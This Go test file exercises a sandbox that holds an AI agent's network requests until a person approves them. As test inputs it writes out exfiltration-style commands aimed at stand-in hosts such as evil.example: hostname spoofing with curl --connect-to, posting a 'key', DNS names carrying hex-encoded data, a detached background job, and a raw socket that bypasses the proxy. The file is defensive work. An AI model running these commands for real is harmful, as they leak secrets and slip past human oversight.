package keeper_test

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"

	"github.com/tidemark/tidemark/internal/box/keeper"
)

// From a command that wants a host to its bytes: nothing leaves before the yes, the question names the host, the model is told.
func TestAPersonIsAskedForTheHostThatACommandWants(t *testing.T) {
	needs(t, "curl")
	l := newLive(t, "")
	l.spoken("s", "Look at the page and mend the build")
	ended := l.does("s", "curl -sSk https://api.example/hello; curl -sSk --noproxy '*' https://api.example/again; true")
	q := l.asked()
	for _, part := range []string{"api.example, port 443", "curl"} {
		if text := q["prompt"].(string); !strings.Contains(text, part) {
			t.Errorf("%q is not in %q", part, text)
		}
	}
	l.nothing("before the yes")
	l.answers(`{"decision":"approve"}`)
	code, out := ended()
	if code != 0 || strings.Count(out, "from outside") != 2 || !strings.Contains(out, "[confined: no network. A person was asked for api.example]") {
		t.Errorf("%d %q", code, out)
	}
	if _, _, heard := l.out.all(); len(heard) != 2 || len(l.questions()) != 0 {
		t.Errorf("heard %q, %d questions", heard, len(l.questions()))
	}
	// it was for that command: the next one is asked about
	ended = l.does("s", "curl -sSk https://api.example/next; true")
	l.answers(`{"decision":"deny"}`)
	if _, out := ended(); !strings.Contains(out, "[confined: no network. api.example:443 was refused: the owner said no]") {
		t.Errorf("%q", out)
	}
}

// A yes for the task holds for its further commands, and for no other session.
func TestAYesForTheTaskIsForItsSession(t *testing.T) {
	needs(t, "curl")
	l := newLive(t, "")
	const line = "curl -sSk https://api.example/hello; true"
	l.spoken("s", "Look at the page and mend the build")
	ended := l.does("s", line)
	l.answers(`{"decision":"approve","task":true}`)
	if _, out := ended(); !strings.Contains(out, "from outside") {
		t.Errorf("%q", out)
	}
	if _, out := l.does("s", "echo again; "+line)(); !strings.Contains(out, "from outside") || len(l.questions()) > 0 {
		t.Errorf("a further command: %q", out)
	}
	l.spoken("other", "Look at the page and mend the build")
	ended = l.does("other", line)
	l.answers(`{"decision":"deny"}`)
	if _, out := ended(); strings.Contains(out, "from outside") {
		t.Errorf("another session: %q", out)
	}
	l.hook("s", "message_received", map[string]any{"content": "Now write the release notes"})
	ended = l.does("s", "echo third; "+line)
	l.answers(`{"decision":"deny"}`)
	if _, out := ended(); strings.Contains(out, "from outside") {
		t.Errorf("after another order: %q", out)
	}
}

// A yes to one host is none to another, however the command gets there; a yes to reading is none to sending.
func TestAYesIsForOneVerbAndOneHost(t *testing.T) {
	needs(t, "curl")
	for _, tt := range []struct{ name, line, refused string }{
		{"a greeting for somebody else", "curl -sSk --connect-to evil.example:443:api.example:443 https://evil.example/key", "api.example:443 was refused"},
		{"the same past the proxy", "curl -sSk --noproxy '*' --connect-to evil.example:443:api.example:443 https://evil.example/key", "api.example:443 was refused"},
		{"a redirect to another host", "curl -sSLk https://api.example/elsewhere", "evil.example:443 was refused"},
		{"another port", "curl -sSk https://api.example/a; curl -sSk https://api.example:8443/key", "api.example:8443 was refused"},
		{"sending where reading was allowed", "curl -sS http://docs.example/a; curl -sS -d key http://docs.example/key", "docs.example:80 was refused"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			l := newLive(t, "")
			l.spoken("s", "Look at the page and mend the build")
			ended := l.does("s", tt.line+"; true")
			first := l.answers(`{"decision":"approve","task":true}`)
			if !strings.HasPrefix(tt.name, "a greeting") && !strings.HasPrefix(tt.name, "the same") {
				if second := l.answers(`{"decision":"deny"}`); second["id"] == first["id"] {
					t.Error("it was asked once")
				}
			}
			_, out := ended()
			_, _, heard := l.out.all()
			if !strings.Contains(out, tt.refused) || strings.Contains(strings.Join(heard, " "), "key") {
				t.Errorf("%q, heard %q", out, heard)
			}
		})
	}
}

// Names that carry what was read carry it to nobody but the person who is asked.
func TestANameThatCarriesDataIsShownAndStays(t *testing.T) {
	needs(t, "curl")
	l := newLive(t, "")
	l.spoken("s", "Look at the page and mend the build")
	name := strings.Repeat("6b6579", 10) + "." + strings.Repeat("7365", 10) + ".evil.example"
	ended := l.does("s", "curl -sSk https://"+name+"/; getent hosts x"+name+" >/dev/null; true")
	q := l.answers(`{"decision":"deny"}`)
	if text := q["prompt"].(string); !strings.Contains(text, name) || !strings.Contains(text, "LOOK CLOSELY") {
		t.Errorf("%q", text)
	}
	ended()
	l.nothing("a name")
}

// A command that asks for many things at once brings one question at a time, and few in all; the rest is refused, with a line that
// says so.
func TestManyNamesBringFewQuestions(t *testing.T) {
	needs(t, "curl")
	for name, script := range map[string]string{
		"at once":   "for i in 1 2 3 4 5 6 7 8 9 10 11 12; do curl -sSk https://n$i.evil.example/ & done; wait",
		"in a line": "for i in 1 2 3 4 5 6 7 8 9 10 11 12; do curl -sSk https://n$i.evil.example/; done; true",
	} {
		l := newLive(t, "")
		l.spoken("s", "Look at the page and mend the build")
		ended := l.does("s", script)
		done := make(chan string, 1)
		go func() { _, out := ended(); done <- out }()
		seen, out := map[string]bool{}, ""
		for out == "" {
			select {
			case out = <-done:
			default:
				list := l.questions()
				if len(list) > 1 {
					t.Errorf("%s: %d questions are open", name, len(list))
				}
				for _, q := range list {
					seen[q["id"].(string)] = true
					l.answers(`{"decision":"deny"}`)
				}
			}
		}
		told := strings.Count(out, "another question is open, and one is asked at a time]") + strings.Count(out, "this command has asked for enough]")
		if no := strings.Count(out, "the owner said no]"); len(seen) > 5 || no == 0 || told == 0 {
			t.Errorf("%s: %d questions, %d refused by the owner, %d told: %q", name, len(seen), no, told, out)
		}
		l.nothing(name)
	}
}

// Where nobody can be asked, nothing leaves.
func TestWithoutAnAnswerNothingLeaves(t *testing.T) {
	needs(t, "curl")
	t.Run("the monitor is away", func(t *testing.T) {
		l := newLive(t, "")
		l.spoken("s", "Look at the page and mend the build")
		cmd := l.line("s", "read go; curl -sSk https://api.example/key; true")
		in, err := cmd.StdinPipe()
		if err != nil {
			t.Fatal(err)
		}
		done := make(chan string, 1)
		go func() { _, out := finish(t, cmd); done <- out }()
		until(t, "it runs", func() bool { return len(l.redeemed("s")) > 0 })
		l.server.CloseClientConnections()
		l.url = "http://127.0.0.1:1"
		_, _ = in.Write([]byte("go\n"))
		if out := <-done; !strings.Contains(out, "api.example:443 was refused: the monitor could not be asked]") {
			t.Errorf("%q", out)
		}
		l.nothing("without a monitor")
	})
	t.Run("the keeper was given nobody to ask", func(t *testing.T) {
		l := newLive(t, "", func(o *keeper.Options) { o.Asker = nil })
		l.spoken("s", "Look at the page and mend the build")
		if _, out := l.does("s", "curl -sSk https://api.example/key; true")(); !strings.Contains(out, "nobody can be asked]") {
			t.Errorf("%q", out)
		}
		l.nothing("without anybody")
	})
	t.Run("the command that asks is gone", func(t *testing.T) {
		l := newLive(t, "")
		l.spoken("s", "Look at the page and mend the build")
		cmd := l.line("s", "curl -sSk https://api.example/key; true")
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		q := l.asked()
		_ = cmd.Process.Signal(syscall.SIGKILL)
		_ = cmd.Wait()
		until(t, "nobody waits", func() bool { return l.questions()[0]["abandoned"] == true })
		l.nothing("a command that is gone")
		// its question can still be answered, and another one takes its place
		ended := l.does("s", "curl -sSk https://docs.example/; true")
		until(t, "another", func() bool { list := l.questions(); return len(list) == 1 && list[0]["id"] != q["id"] })
		l.answers(`{"decision":"approve"}`)
		if _, out := ended(); !strings.Contains(out, "from outside") {
			t.Errorf("%q", out)
		}
	})
}

// Jobs that outlive their command ask for nothing.
func TestAJobInTheBackgroundAsksNobody(t *testing.T) {
	needs(t, "curl")
	l := newLive(t, "")
	l.spoken("s", "Look at the page and mend the build")
	if code, out := l.does("s", "(setsid sh -c 'while [ ! -e go ]; do sleep 0.1; done; curl -sSk https://api.example/key > log 2>&1; touch done' >/dev/null 2>&1 &) ; true")(); code != 0 {
		t.Fatal(out)
	}
	l.put(l.ws+"/go", "")
	until(t, "it tried", func() bool { return exists(l.ws + "/done") })
	if n := len(l.questions()); n != 0 {
		t.Errorf("%d questions", n)
	}
	l.nothing("a job in the background")
}

// What the policy names is read and reached unasked, and no more than that.
func TestHostsAndPortsOfThePolicy(t *testing.T) {
	needs(t, "curl")
	service, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer service.Close()
	go func() {
		for {
			c, err := service.Accept()
			if err != nil {
				return
			}
			_, _ = c.Write([]byte("a service\n"))
			_ = c.Close()
		}
	}()
	port := service.Addr().(*net.TCPAddr).Port
	l := newLive(t, fmt.Sprintf("box: {hosts: [docs.example], ports: [%d]}", port))
	l.spoken("s", "Look at the page and mend the build")
	_, out := l.does("s", fmt.Sprintf("curl -sS http://docs.example/a; cat < /dev/tcp/127.0.0.1/%d; curl -sS -d key http://docs.example/key; cat < /dev/tcp/127.0.0.1/%d; true", port, port+1))()
	for _, part := range []string{"from outside", "a service", "docs.example:80 was refused: it may only be read]", "refused"} {
		if !strings.Contains(out, part) {
			t.Errorf("%q is not in %q", part, out)
		}
	}
	ended := l.does("s", "curl -sSk https://docs.example/key; true") // what cannot be looked into is asked about
	l.answers(`{"decision":"deny"}`)
	ended()
	if _, _, heard := l.out.all(); len(heard) != 1 || strings.Contains(heard[0], "key") {
		t.Errorf("heard %q", heard)
	}
}

// The monitor's own port is reached by no box, whatever the policy says.
func TestTheMonitorsPortIsClosed(t *testing.T) {
	port := 0
	l := newLive(t, "box: {ports: [8417]}", func(o *keeper.Options) { o.Closed = func() []int { return []int{port} } })
	l.spoken("s", "Look at the page and mend the build")
	port = 8417
	if code, out := l.does("s", "echo ran; true")(); code != 125 || strings.Contains(out, "ran\n") || !strings.Contains(out, "never opened") {
		t.Errorf("%d %q", code, out)
	}
}

// A python program that knows of no proxy is held like any other.
func TestAProgramThatKnowsNoProxyIsHeld(t *testing.T) {
	needs(t, "python3")
	l := newLive(t, "")
	l.spoken("s", "Look at the page and mend the build")
	const program = `import socket, ssl
c = ssl._create_unverified_context().wrap_socket(socket.create_connection(("api.example", 443)), server_hostname="api.example")
c.sendall(b"GET /py HTTP/1.0\r\nHost: api.example\r\n\r\n")
print(c.recv(4096).decode().splitlines()[0])`
	l.put(l.ws+"/p.py", program)
	ended := l.does("s", "python3 p.py; true")
	l.nothing("before the yes")
	l.answers(`{"decision":"approve"}`)
	if _, out := ended(); !strings.Contains(out, "200 OK") {
		t.Errorf("%q", out)
	}
}

// service is something that listens at a port of this machine, below those that the kernel gives to whoever asks for any.
func service(t *testing.T, says string) (port int, heard func() int) {
	t.Helper()
	var l net.Listener
	for port = 21000; port < 32000; port += 7 {
		var err error
		if l, err = net.Listen("tcp", fmt.Sprintf("127.0.0.1:%d", port)); err == nil {
			break
		}
	}
	var count atomic.Int32
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		count.Add(1)
		_, _ = io.WriteString(w, says)
	})}
	go func() { _ = srv.Serve(l) }()
	t.Cleanup(func() { _ = srv.Close() })
	return port, func() int { return int(count.Load()) }
}

// BOX-02: a service of this machine is a capability: who wants its port is held while a person is asked, a no reaches nobody, and a yes to
// one port is none to another.
func TestAPersonIsAskedForAPortOfThisMachine(t *testing.T) {
	needs(t, "curl")
	one, heardOne := service(t, "from service one")
	two, heardTwo := service(t, "from service two")
	l := newLive(t, "")
	l.spoken("s", "Look at the page and mend the build")
	ended := l.does("s", fmt.Sprintf("curl -sS --noproxy '*' http://127.0.0.1:%d/; curl -sS --noproxy '*' http://localhost:%d/; true", one, two))
	q := l.asked()
	if text := q["prompt"].(string); !strings.Contains(text, fmt.Sprintf("port %d of this machine", one)) || !strings.Contains(text, "curl") {
		t.Errorf("asked: %q", text)
	}
	if heardOne()+heardTwo() > 0 {
		t.Error("it was reached before the yes")
	}
	l.answers(`{"decision":"approve"}`)
	l.answers(`{"decision":"deny"}`)
	_, out := ended()
	told := fmt.Sprintf("[confined: no network. A person was asked for localhost:%d]", one)
	if !strings.Contains(out, "from service one") || strings.Contains(out, "from service two") || heardTwo() > 0 || !strings.Contains(out, told) {
		t.Errorf("%q, heard %d and %d", out, heardOne(), heardTwo())
	}
	// what listens in the box is the box's own, and a door to the machine is none to the monitor
	ended = l.does("s", fmt.Sprintf("curl -sS -m 3 --noproxy '*' %s/healthz || echo no-monitor", l.url))
	if _, out := ended(); !strings.Contains(out, "no-monitor") {
		t.Errorf("the monitor: %q", out)
	}
}
